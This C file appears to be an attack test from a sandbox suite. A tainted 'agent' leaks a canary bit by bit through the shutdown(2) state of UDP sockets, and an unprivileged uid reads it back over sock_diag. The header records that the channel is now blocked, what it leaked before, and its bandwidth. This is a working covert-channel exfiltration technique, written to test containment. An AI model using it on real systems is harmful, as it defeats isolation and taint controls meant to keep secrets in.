// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_shutdown_autobind - udp_shutdown_diag for any agent (no --server, no socket made before
 * the taint): after its recv the agent makes one UDP socket per canary bit, hashes each by a
 * refused sendto (autobind, as udp_sockmem_diag), and calls shutdown(SHUT_RD) for a 0 bit,
 * shutdown(SHUT_WR) for a 1 bit (ENOTCONN, but sk_shutdown is set). The index is the socket's
 * rank by local port (the agent reads its ports with getsockname).
 * Verifier: uid 65534 dumps the UDP sockets over NETLINK_SOCK_DIAG, keeps those with
 * INET_DIAG_SHUTDOWN 1 or 2, groups them by owner uid, sorts each group by port and decodes.
 * Result (host, user and root): blocked: once tainted, shutdown(2) is asked of mncctl run's
 * launcher (seccomp user notification), which shuts only a connected stream socket, on its own
 * copy, and refuses a UDP socket (EPERM; run_gate.h). Before that gate: LEAKED user and root
 * (cgroup backend, 6.18): every step after the taint, no bind, no setsockopt.
 * Control (MNC_ATTACKS_CONTROL=1): LEAKED, verified.
 * Bandwidth before: 1 bit per socket (2 with SHUT_RDWR and an index carrier), bounded by the fd
 * limit per agent (~1000 bits at once; sockets can be closed and remade: ~10^4 sockets/s).
 * Threat model: docs/threat-model.md ("Socket state set by shutdown(2)"). */
#include <netinet/in.h>
#include <stdint.h>
#include <linux/inet_diag.h>

#include "atk.h"
#include "atk_variants.h"

#define SA_MAX 512 /* bits */

struct sa_sock {
    unsigned port, uid;
    int fd, sd;
};

static int by_port(const void *x, const void *y)
{
    const struct sa_sock *a = x, *b = y;
    return a->uid != b->uid ? (a->uid < b->uid ? -1 : 1) : (a->port > b->port) - (a->port < b->port);
}

static int agent(struct atk_ctx *c)
{
    static struct sa_sock ss[SA_MAX];
    size_t n = strlen(c->secret), bits = n * 8 < SA_MAX ? n * 8 : SA_MAX, made = 0;
    int fails = 0;
    for (size_t i = 0; i < bits; i++) {
        int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (s < 0) {
            fails++;
            continue;
        }
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        (void)sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof(a)); /* refused: autobinds all the same */
        struct sockaddr_in me;
        socklen_t ml = sizeof(me);
        if (getsockname(s, (struct sockaddr *)&me, &ml) != 0 || me.sin_port == 0) {
            fails++;
            close(s);
            continue;
        }
        ss[made].fd = s, ss[made].port = ntohs(me.sin_port), ss[made].uid = 0;
        made++;
    }
    qsort(ss, made, sizeof(ss[0]), by_port);
    for (size_t i = 0; i < made; i++) {
        int bit = ((unsigned char)c->secret[i / 8] >> (i % 8)) & 1;
        int r = shutdown(ss[i].fd, bit ? SHUT_WR : SHUT_RD);
        if (r < 0 && errno != ENOTCONN)
            fails++;
    }
    atk_try(c, "sockets autobound by a refused sendto, then shutdown (ENOTCONN expected)", fails ? -1 : 0);
    atk_sync(c, "set"); /* the sockets stay open until the agent exits */
    return 0;
}

/* uid 65534: (uid, port, shutdown) of every AF_INET UDP socket whose shutdown is 1 or 2 */
struct sa_out {
    struct sa_sock *out;
    int cap, got;
};
static void sa_each(const struct inet_diag_msg *m, int type, const void *p, size_t n, void *arg)
{
    struct sa_out *o = arg;
    if (type != INET_DIAG_SHUTDOWN || n < 1)
        return;
    int sd = *(const unsigned char *)p & 3;
    if ((sd == 1 || sd == 2) && o->got < o->cap) {
        o->out[o->got].uid = m->idiag_uid, o->out[o->got].port = ntohs(m->id.idiag_sport), o->out[o->got].sd = sd;
        o->got++;
    }
}
static int dump_udp(struct sa_sock *out, int cap)
{
    struct sa_out o = {out, cap, 0};
    return atkv_diag_dump(IPPROTO_UDP, 0, ~0u, sa_each, &o) < 0 ? -1 : o.got;
}

/* uid 65534 (atk_as_uid): one message per owner uid, joined by '|'; 1 if the canary is there */
static int decode(struct atk_ctx *c, char *out, size_t n)
{
    static struct sa_sock socks[4096];
    static char msg[8192];
    int got = dump_udp(socks, 4096);
    if (got > 0)
        qsort(socks, (size_t)got, sizeof(socks[0]), by_port);
    size_t mlen = 0;
    for (int k = 0; k < got;) {
        int e = k;
        while (e < got && socks[e].uid == socks[k].uid)
            e++;
        for (int i = k; i < e && mlen + (size_t)(i - k) / 8 + 2 < sizeof(msg); i++)
            if (socks[i].sd == 2)
                msg[mlen + (size_t)(i - k) / 8] |= (char)(1 << ((i - k) % 8));
        mlen += (size_t)(e - k + 7) / 8;
        if (mlen + 1 < sizeof(msg))
            msg[mlen++] = '|';
        k = e;
    }
    if (!atk_buf_has(msg, mlen < sizeof(msg) ? mlen : sizeof(msg), c->canary))
        return 0;
    snprintf(out, n,
             "uid 65534 read the canary from the shutdown state of UDP sockets the tainted agent "
             "made and autobound (NETLINK_SOCK_DIAG INET_DIAG_SHUTDOWN, port rank as the index)");
    return 1;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atk_verify_as_nobody(c, tag, "set", decode); }

static const struct atk A = {"udp_shutdown_autobind",
                             "shutdown(2) state of UDP sockets made after the taint, read through sock_diag",
                             0,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
